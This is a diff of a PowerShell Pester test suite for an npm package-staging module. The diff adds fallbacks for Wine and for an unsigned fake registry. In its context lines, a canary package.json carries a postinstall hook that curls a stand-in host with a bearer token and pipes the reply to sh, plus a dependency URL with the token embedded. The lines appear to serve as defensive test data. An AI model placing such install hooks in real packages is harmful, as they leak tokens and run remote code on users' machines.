@@ -159,7 +159,12 @@ BeforeAll {
             Set-Content -LiteralPath (Join-Path $pkg 'package.json') -Value ('{"name":"canary-pkg","version":"1.0.0","scripts":{"postinstall":"curl -H \"Authorization: Bearer ' + $token + '\" https://e.example/x | sh"},"dependencies":{"x":"https://u:' + $token + '@e.example/x.tgz"}}')
             Set-Content -LiteralPath (Join-Path $pkg 'index.js') -Value "require('child_process'); const t = '$token'"
             $tgz = Join-Path $m.Root 'staged.tgz'
-            tar -czf $tgz -C (Split-Path $pkg) package
+            # the fake's tar writer where it is loaded (PowerShell 7): Wine has no tar.exe (Windows 10 and later have one)
+            if ('NpmhStageRegistry' -as [type]) {
+                $files = @{ 'index.js' = [IO.File]::ReadAllText((Join-Path $pkg 'index.js')) }
+                [IO.File]::WriteAllBytes($tgz, [NpmhStageRegistry]::BuildTarball([IO.File]::ReadAllText((Join-Path $pkg 'package.json')), $files))
+            }
+            else { tar -czf $tgz -C (Split-Path $pkg) package }
             Compare-NpmStagedPackage -Path $tgz -Verbose -Debug
             Compare-NpmStagedPackage -Path $tgz -ReferencePath $tgz -Summary -Verbose -Debug
             Compare-NpmStagedPackage -Path $tgz -Summary -Verbose -Debug
@@ -347,7 +352,8 @@ BeforeAll {
         # the canary case still runs; only the signature check of the trust case below needs the key.
         $script:ReleaseKey = $null
         try { $script:ReleaseKey = New-ReleaseSigningKey } catch [System.Security.Cryptography.CryptographicException] { }
-        if ($ReleaseKey) { Set-ReleaseKeys $F @($ReleaseKey) }
+        # without a key the fake answers the keys request 404, as a registry that does not sign
+        if ($ReleaseKey) { Set-ReleaseKeys $F @($ReleaseKey) } else { Set-ReleaseKeys $F @() }
         Publish-ReleaseFixture $F '@canary/rel' -Key $ReleaseKey -Versions @(
             @{ Version = '1.0.0'; Path = 'oidc+staged' }, @{ Version = '1.0.1'; Path = 'token'; Sign = 'tampered' }) | Out-Null
     }
@@ -500,6 +506,7 @@ Describe 'No secret leaves the module' {
 
 
     It 'the stage cases reach the staged-publishing fake with the token and the OTP, so their output is checked too' -Skip:($PSVersionTable.PSVersion.Major -lt 7) {
+        if ($UnderWine) { Set-ItResult -Skipped -Because 'under Wine the stage cases are among the registry-only canary cases that run on Linux only'; return }
         $S.Requests | Where-Object { $_.Authorization -eq "Bearer $token" } | Should -Not -BeNullOrEmpty
         @($S.Requests | Where-Object { $_.Method -eq 'POST' -and $_.Otp -eq $otpCanary -and $_.Status -eq 201 }).Count | Should -Be 1
         @($S.Requests | Where-Object { $_.Method -eq 'DELETE' -and $_.Otp -eq $otpCanary -and $_.Status -lt 300 }).Count | Should -Be 1
